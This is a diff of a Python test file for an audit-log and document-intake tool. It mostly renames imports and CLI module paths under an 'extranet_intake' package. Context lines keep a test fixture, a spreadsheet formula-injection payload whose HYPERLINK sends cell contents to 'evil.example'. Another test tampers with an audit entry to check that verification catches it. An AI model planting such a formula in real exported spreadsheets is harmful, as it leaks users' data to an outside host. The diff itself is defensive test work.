@@ -17,9 +17,9 @@ from openpyxl import load_workbook
 from sqlalchemy.engine import Engine
 from sqlmodel import Session
 
-from auditchain.chain import AUDIT_ENTRY, AUDIT_HEAD, AuditAction, append_entry
-from intake.cli import main
-from intake.store import DocumentStore
+from extranet_intake.auditchain.chain import AUDIT_ENTRY, AUDIT_HEAD, AuditAction, append_entry
+from extranet_intake.intake.cli import main
+from extranet_intake.intake.store import DocumentStore
 
 T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
 ORG = "0403170701"
@@ -27,7 +27,7 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
 def _config(tmp_path: Path, db_url: str) -> Path:
-    path = tmp_path / "intake.toml"
+    path = tmp_path / "extranet_intake.intake.toml"
     path.write_text(
         f'[database]\nurl = "{db_url}"\n\n[store]\npath = "store"\n\n'
         '[audit]\ncheckpoint_key_file = "keys/audit-checkpoint.key"\n'
@@ -186,7 +186,10 @@ def test_verify_exit_code_from_a_real_process(tmp_path: Path, db_url: str, engin
             conn.exec_driver_sql("DROP TRIGGER audit_entry_no_update")
         conn.execute(sa.update(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq == 2).values(login="attacker"))
     done = subprocess.run(
-        [sys.executable, "-m", "intake.cli", "audit", "verify", "-c", cfg], capture_output=True, text=True, timeout=120
+        [sys.executable, "-m", "extranet_intake.intake.cli", "audit", "verify", "-c", cfg],
+        capture_output=True,
+        text=True,
+        timeout=120,
     )
     assert done.returncode == 1
     assert "BROKEN at entry 2" in done.stderr
@@ -201,7 +204,7 @@ def test_verify_reports_a_blob_and_a_deleted_head_and_never_crashes(
     def verify() -> subprocess.CompletedProcess[str]:
         # an auditor's check: no configuration file, the database named on the command line
         return subprocess.run(
-            [sys.executable, "-m", "intake.cli", "audit", "verify", "--database-url", db_url],
+            [sys.executable, "-m", "extranet_intake.intake.cli", "audit", "verify", "--database-url", db_url],
             capture_output=True,
             text=True,
             timeout=120,
@@ -241,7 +244,7 @@ def test_verify_with_a_checkpoint_needs_no_configuration(
     argv = [
         sys.executable,
         "-m",
-        "intake.cli",
+        "extranet_intake.intake.cli",
         "audit",
         "verify",
         "--database-url",
